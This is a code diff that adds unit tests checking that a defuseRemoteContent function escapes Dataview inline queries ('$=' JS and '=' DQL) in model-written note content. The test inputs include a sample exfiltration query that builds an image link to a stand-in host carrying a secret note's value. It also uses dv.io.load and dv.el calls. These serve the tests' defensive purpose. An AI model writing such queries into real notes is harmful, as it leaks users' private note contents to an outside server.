@@ -93,3 +93,42 @@ describe('S17: defuseRemoteContent makes model-written remote content inert', ()
     expect(defusedNotice([])).toBe('');
   });
 });
+
+describe('S17 follow-up: Dataview inline queries (`$= …` JS, `= …` DQL) are defused', () => {
+  it('breaks the prefix of an inline code span, in any spacing, so it shows as code', () => {
+    const r = defuseRemoteContent(
+      'a `$= dv.io.load("x")` b ``  = "![](https://a.example/?d=" + [[Secret]].pay + ")" `` c',
+    );
+    expect(r.text).toBe(
+      'a `\\$= dv.io.load("x")` b ``  \\= "![](https://a.example/?d=" + [[Secret]].pay + ")" `` c',
+    );
+    expect(r.defused.map((d) => d.kind)).toEqual(['inline-query', 'inline-query']);
+    expect(defusedNotice(r.defused)).toMatch(/2 Dataview inline queries/);
+  });
+
+  it('breaks a code block whose text starts with a prefix (Dataview evaluates those too), fenced or indented', () => {
+    const r = defuseRemoteContent(
+      'x\n```\n\n  $= dv.pages()\n```\npara\n\n    = this.file.name\n> \n>     $= 1\n',
+    );
+    expect(r.text).toBe(
+      'x\n```\n\n  \\$= dv.pages()\n```\npara\n\n    \\= this.file.name\n> \n>     \\$= 1\n',
+    );
+    expect(r.defused).toHaveLength(3);
+  });
+
+  it('escapes an HTML <code> element that starts with a prefix', () => {
+    const r = defuseRemoteContent('see <code> $= dv.el("img", "")</code> and <code>plain</code>');
+    expect(r.text).toBe('see &lt;code> $= dv.el("img", "")</code> and <code>plain</code>');
+    expect(r.defused.map((d) => d.kind)).toEqual(['inline-query']);
+  });
+
+  it('leaves other code, prose with "=", setext headings and what the file held alone; idempotent', () => {
+    const text =
+      'a `x = 1` b `a == b` too\nTitle\n=====\n```js\nconst a = 1\n```\n   = not code (3 spaces)\n';
+    expect(defuseRemoteContent(text)).toEqual({ text, defused: [] });
+    const user = 'Today: `= date(today)`';
+    expect(defuseRemoteContent(`${user}\nnew \`$= 1\``, { keep: user }).text).toBe(`${user}\nnew \`\\$= 1\``);
+    const once = defuseRemoteContent('`$= 1`\n```\n= 2\n```\n    $= 3\n<code>=4</code>').text;
+    expect(defuseRemoteContent(once)).toEqual({ text: once, defused: [] });
+  });
+});
